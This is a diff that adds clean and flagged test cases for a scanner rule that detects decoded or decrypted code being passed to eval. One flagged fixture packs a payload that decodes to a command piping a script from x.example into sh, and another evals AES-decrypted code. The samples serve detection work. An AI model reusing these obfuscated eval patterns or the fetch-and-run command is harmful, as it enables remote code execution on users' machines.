@@ -3,6 +3,8 @@ import rule from './decoded-code-execution.js';
 
 ruleTest(rule, {
   clean: [
+    { name: 'gzip-packed fixture inflated and parsed, never run', file: 'test/load.js', code: "const zlib = require('zlib');\nconst data = JSON.parse(zlib.gunzipSync(Buffer.from('H4sIAAAAAAAAA8vNTynNSdVLrSjILyopVrBVqFZItFIwVKgFADPqzzUZAAAA', 'base64')).toString());\nmodule.exports = data;\n" },
+    { name: 'AES-encrypted config decrypted from a file and JSON.parsed', file: 'lib/config.js', code: "const crypto = require('crypto');\nconst fs = require('fs');\nconst raw = fs.readFileSync('config.enc');\nconst d = crypto.createDecipheriv('aes-256-cbc', Buffer.from(process.env.KEY, 'hex'), raw.subarray(0, 16));\nmodule.exports = JSON.parse(d.update(raw.subarray(16), undefined, 'utf8') + d.final('utf8'));\n" },
     { name: 'globalThis polyfill', file: 'src/global.js', code: "const g = Function('return this')();\nconst b = atob(token);\n" },
     {
       name: 'hash code full of charCodes and XOR, no eval',
@@ -43,6 +45,18 @@ ruleTest(rule, {
     },
   ],
   flagged: [
+    {
+      name: 'deflated base64 literal inflated and evaled: the code is unpacked and shown',
+      file: 'index.js',
+      code: "const zlib = require('zlib');\neval(zlib.inflateSync(Buffer.from('eJwrSi0szSxK1VBPzsjMSYkvKMpPTi0uVtfUS61ITdZQTy4tylHQLVbIKCkpsNLXr9BLrUjMLchJ1a9SqFEozlDXBADtgBYx', 'base64')).toString());\n",
+      findings: [{ line: 2, severity: 'critical', confidence: 'high', decoded: "require('child_process').exec('curl -s http://x.example/z | sh')" }],
+    },
+    {
+      name: 'ciphertext and key in the file, decrypted and evaled',
+      file: 'lib/license.js',
+      code: "const crypto = require('crypto');\nconst d = crypto.createDecipheriv('aes-256-cbc', Buffer.from('07'.repeat(32), 'hex'), Buffer.from('03'.repeat(16), 'hex'));\nconst code = d.update('9f1c2b7d4e5a6b8c9d0e1f2a3b4c5d6e7f8091a2b3c4d5e6f708192a3b4c5d6e', 'hex', 'utf8') + d.final('utf8');\neval(code);\n",
+      findings: [{ line: 4, severity: 'critical', confidence: 'high', message: /encrypted in the file, with its key beside it/ }],
+    },
     {
       name: 'eval of atob literal',
       file: 'src/index.js',
